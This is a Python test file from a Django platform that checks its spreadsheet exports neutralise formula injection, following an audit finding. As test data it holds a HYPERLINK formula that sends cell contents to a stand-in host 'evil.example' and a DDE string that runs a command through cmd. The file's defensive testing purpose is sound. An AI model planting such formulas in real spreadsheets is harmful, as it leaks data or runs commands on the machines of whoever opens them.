"""Issue 13 finding 7: text that looks like a formula stays text in every spreadsheet the platform
writes (anonymous statistics export, the workbench's stats.xlsx, the catalog export)."""

from io import BytesIO

import pytest
from django.urls import reverse
from openpyxl import load_workbook
from rest_framework.test import APIClient

from zwfw.organizations.models import Department

pytestmark = pytest.mark.django_db

PAYLOAD = '=HYPERLINK("http://evil.example/?"&A1,"点击")'


def _cells(content: bytes, sheet: str):
    book = load_workbook(BytesIO(content))
    return [cell for row in book[sheet].iter_rows() for cell in row if cell.value is not None]


def _assert_inert(cells, text):
    matching = [c for c in cells if isinstance(c.value, str) and c.value.startswith(text[:10])]
    assert matching, "the payload is not in the sheet"
    for cell in matching:
        assert cell.data_type == "s", f"{cell.coordinate} became a {cell.data_type!r} cell"
        assert cell.value == text


@pytest.fixture
def evil_department(published, approval_dept):
    Department.objects.filter(pk=approval_dept.pk).update(name=PAYLOAD)
    return approval_dept


def test_anonymous_stats_export_keeps_a_formula_as_text(evil_department):
    response = APIClient().get("/api/v1/catalog/stats/export", {"region": "all"})
    assert response.status_code == 200
    _assert_inert(_cells(response.content, "按部门"), PAYLOAD)


def test_workbench_stats_xlsx_keeps_a_formula_as_text(client, evil_department, editor):
    editor.refresh_from_db()
    client.force_login(editor)
    response = client.get(reverse("workbench:catalog_stats_xlsx"))
    assert response.status_code == 200
    _assert_inert(_cells(response.content, "按部门"), PAYLOAD)


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
def test_one_escaping_function_for_every_formula_start(prefix):
    from openpyxl import Workbook

    from zwfw.core.spreadsheet import sheet_cell

    book = Workbook(write_only=True)
    ws = book.create_sheet("t")
    value = f"{prefix}1+cmd|' /C calc'!A0"
    ws.append([sheet_cell(ws, value), sheet_cell(ws, 5), sheet_cell(ws, "普通文本")])
    out = BytesIO()
    book.save(out)
    row = next(load_workbook(BytesIO(out.getvalue()))["t"].iter_rows())
    # (XML reads a carriage return back as a line feed; the rest must be exactly what was written)
    assert (row[0].data_type, row[0].value[1:]) == ("s", value[1:])
    assert row[0].quotePrefix  # Excel keeps it text even when the cell is edited
    assert (row[1].value, row[2].value) == (5, "普通文本")
